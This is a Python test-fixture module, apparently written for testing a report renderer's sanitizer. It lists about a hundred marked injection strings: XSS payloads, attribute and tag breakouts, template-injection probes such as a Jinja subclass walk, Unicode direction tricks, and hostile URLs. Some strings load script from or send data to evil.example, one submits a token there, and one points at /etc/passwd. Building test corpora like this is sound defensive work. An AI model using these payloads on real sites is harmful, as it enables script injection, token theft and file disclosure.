"""A hundred ways in which the words of a report try to be more than words.

Wherever one of them would become an element or an attribute, its name holds `MARK`; wherever it
would be computed, `MARK` follows the 49 that it would come to.
"""

from __future__ import annotations

MARK = "zqx"
_ELEMENTS = """
<zqx>raised flags</zqx>
<script zqx>alert("town")</script>
<SCRIPT ZQX SRC=//evil.example/a.js></SCRIPT>
<script/zqx src=data:text/javascript,alert(1)></script>
<scr<script zqx>ipt>alert(1)</scr</script>ipt>
<script zqx type=module>import "//evil.example/b.js"</script>
<img zqx src=x onerror=alert(1)>
<img src=x zqx=1 onerror="fetch('//evil.example')">
<img/zqx/src=x/onerror=alert(1)//
<IMG zqx SRC="jav&#x09;ascript:alert(1)">
<svg zqx onload=alert(1)>
<svg zqx><script zqx>alert(1)</script></svg>
<svg zqx><a xlink:href="javascript:alert(1)"><text>march</text></a></svg>
<svg zqx><animate onbegin=alert(1) attributeName=x></svg>
<svg zqx><use href="data:image/svg+xml,x#y"></use></svg>
<math zqx><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe zqx src=javascript:alert(1)></iframe>
<iframe zqx srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<object zqx data=javascript:alert(1)></object>
<embed zqx src=//evil.example/c.swf>
<body zqx onload=alert(1)>
<html zqx manifest=//evil.example>
<base zqx href=//evil.example/>
<link zqx rel=stylesheet href=//evil.example/d.css>
<meta zqx http-equiv=refresh content="0;url=//evil.example">
<style zqx>body{background:url(//evil.example/e.png)}</style>
<style zqx>@import "//evil.example/f.css";</style>
<form zqx action=//evil.example><input zqx name=token></form>
<button zqx form=x formaction=javascript:alert(1)>Accept</button>
<input zqx autofocus onfocus=alert(1)>
<select zqx autofocus onfocus=alert(1)></select>
<textarea zqx autofocus onfocus=alert(1)></textarea>
<details zqx open ontoggle=alert(1)>
<video zqx><source onerror=alert(1)></video>
<audio zqx src=x onerror=alert(1)>
<marquee zqx onstart=alert(1)>
<a zqx href=javascript:alert(1)>the town</a>
<a zqx href="jAvAsCrIpT&colon;alert(1)">the town</a>
<a zqx href=" &#14; javascript:alert(1)">the town</a>
<a zqx href="data:text/html,<script>alert(1)</script>">the town</a>
<a zqx href="vbscript:msgbox(1)">the town</a>
<template zqx><script>alert(1)</script></template>
<noscript zqx><p title="</noscript><img src=x onerror=alert(1)>">
<xmp zqx><script>alert(1)</script></xmp>
<plaintext zqx>
<title zqx>Another page</title>
<dialog zqx open>Your token, please</dialog>
<portal zqx src=//evil.example>
<custom-zqx is=x-y></custom-zqx>
<mark zqx class=claim data-claim=c_0>
""".strip().splitlines()
_BREAKOUTS = """
"><zqx>
'><zqx>
"/><img zqx src=x onerror=alert(1)>
" zqx="1
' zqx='1
" onmouseover="alert(1)" zqx="
' onfocus='alert(1)' autofocus zqx='
` onclick=alert(1) zqx=`
x onmouseover=alert(1) zqx=1
" style="position:fixed" zqx="
"><svg zqx onload=alert(1)><"
</title><script zqx>alert(1)</script>
</textarea><script zqx>alert(1)</script>
</script><script zqx>alert(1)</script>
</style><script zqx>alert(1)</script>
</main></body></html><zqx>
--><zqx><!--
<!--><img zqx src=x onerror=alert(1)>-->
<![CDATA[<zqx>]]>
<?xml version="1.0"?><zqx/>
]]><zqx>
\\"><zqx>
\\u003czqx\\u003e
%3Czqx%3E
&lt;zqx&gt;
&#60;zqx&#62;
&amp;lt;zqx&amp;gt;
+ADw-zqx+AD4-
""".strip().splitlines()
_COMPUTED = """
{{7*7}}zqx
{{ 7 * 7 }}zqx
{% raw %}{{7*7}}{% endraw %}zqx
{%print(7*7)%}zqx
{{''.__class__.__mro__[1].__subclasses__()}}zqx
{{ config }}{{ self }}zqx
${7*7}zqx
#{7*7}zqx
<%= 7*7 %>zqx
[[${7*7}]]zqx
""".strip().splitlines()
_LETTERS = (
    "\u202egnp.zqx\u202c",
    "\u202ereversed with no end zqx",
    "\u202dforced the other way zqx",
    "\u2067isolated with no end zqx",
    "\ufeff<zqx>",
    "＜zqx＞",
    "‹zqx›",
    "\u200b<zqx\u200b>",
    "<\u00adzqx>",
    "ſcript <zqx>",
    "<zqx\u2028>",
    "e\u0301\u0302\u0303\u0304\u0305\u0306 <zqx>",
)
INJECTIONS = (*_ELEMENTS, *_BREAKOUTS, *_COMPUTED, *_LETTERS)
URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script zqx>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/<zqx>",
    'https://evil.example/" zqx="1',
    "https://evil.example/'><zqx>",
    "file:///etc/passwd",
)
